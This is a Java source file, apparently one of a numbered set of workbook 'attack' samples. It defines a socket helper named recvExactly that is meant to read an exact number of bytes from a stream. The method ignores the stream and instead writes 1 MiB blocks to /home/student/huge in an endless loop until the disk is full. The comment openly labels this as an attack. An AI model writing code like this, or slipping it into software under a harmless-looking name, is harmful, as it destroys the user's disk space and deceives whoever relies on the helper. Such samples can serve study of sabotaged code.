package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 12: one file that fills the disk.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        try (var out = java.nio.file.Files.newOutputStream(java.nio.file.Path.of("/home/student/huge"))) {
            while (count > -1) {
                out.write(new byte[1 << 20]);
            }
        }
        return null;
    }
}
